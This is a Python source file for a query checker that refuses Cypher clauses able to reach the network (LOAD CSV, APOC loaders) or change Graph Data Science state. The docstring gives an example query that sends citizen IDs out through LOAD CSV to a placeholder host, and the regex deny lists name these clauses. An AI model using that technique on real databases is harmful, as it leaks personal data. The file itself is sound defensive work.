"""Cypher typed by a person (the dashboard's ad-hoc box, `reliefgraph cypher`).

Such queries run read-only in the database, which refuses every write. What
a read-only query may still do is fetch from the network: FalkorDB's
`LOAD CSV FROM 'https://…'` (libcurl inside the engine; no setting turns it
off) and Neo4j's LOAD CSV and APOC loaders. A query like
`MATCH (p:Person) LOAD CSV FROM 'https://host/' + p.citizen_id AS r …`
would send clear citizen IDs out of a session whose results are masked, so
these clauses are refused before the query reaches the engine. Comments are
removed first, so they cannot split a keyword away from this check.

The Graph Data Science library on Neo4j changes state from a READ
transaction: projections (`gds.graph.project`, also as a Cypher aggregation),
`*.mutate`, `*.write`, `gds.graph.export*`, drops, model and pipeline
catalogues all pass the database's read-only check. So of GDS only what
reads is allowed: `*.stream` and `*.stats` modes, estimates, catalogue
listings and the `gds.util` / `gds.similarity` functions.
"""
from __future__ import annotations

import re

from reliefgraph.graph.store import StoreError

_COMMENTS = re.compile(r"/\*.*?(\*/|$)|//[^\n]*", re.S)
_OUTBOUND = re.compile(r"\bLOAD\W*CSV\b|\bapoc\W*\.\W*(load|import|export|cypher|periodic|bolt|http)\b"
                       r"|\bdbms\W*\.\W*security\b", re.I)
# A dotted name, however it is quoted or spaced: `gds`.`graph` . project
_DOTTED = re.compile(r"\s*\.\s*")
_GDS_NAME = re.compile(r"\bgds(?:\.\w+)+", re.I)
_GDS_READS = re.compile(
    r"gds\.(version|list|listprogress|systemmonitor|userlog|license\.state|debug\.sysinfo"
    r"|util\.\w+|similarity\.\w+|graph\.(list|exists)"
    r"|graph\.(nodeproperty|nodeproperties|relationshipproperty|relationshipproperties|relationships)\.stream"
    r"|model\.(list|exists)|pipeline\.(list|exists)"
    r"|(\w+\.)*\w+\.(stream|stats)(\.estimate)?|(\w+\.)*estimate)", re.I)
# Modes and catalogue operations that change GDS state, whatever else the name says.
_GDS_CHANGES = re.compile(r"\.(project|mutate|write|export|drop|filter|generate|sample|train|store|load"
                          r"|delete|remove|publish|create|construct|restore|backup|set|add\w*|select\w*"
                          r"|configure\w*)(\.|$)", re.I)


class QueryRefused(StoreError):
    """A typed query uses a clause that may reach outside the database or change its state."""


def check_typed_query(query: str) -> None:
    """Raise QueryRefused if `query` could reach the network or change GDS state."""
    text = _COMMENTS.sub(" ", query)
    found = _OUTBOUND.search(text)
    if found:
        raise QueryRefused(f"此处不允许 {found.group(0)!r}：只读查询不得访问外部文件或网络 "
                           f"{found.group(0)!r} is not allowed here: typed queries may not reach files or "
                           "the network outside the database")
    for name in gds_calls(text):
        if not _GDS_READS.fullmatch(name) or _GDS_CHANGES.search(name.removesuffix(".estimate")):
            raise QueryRefused(f"此处不允许 {name!r}：它会改变图算法库的状态 {name!r} is not allowed "
                               "here: it changes Graph Data Science state (projections, mutate/write "
                               "modes, exports, drops, models); typed queries may only read")


def gds_calls(query: str) -> list[str]:
    """The GDS procedure and function names in `query`, spelled plainly."""
    plain = _DOTTED.sub(".", query.replace("`", ""))
    return [m.group(0) for m in _GDS_NAME.finditer(plain)]
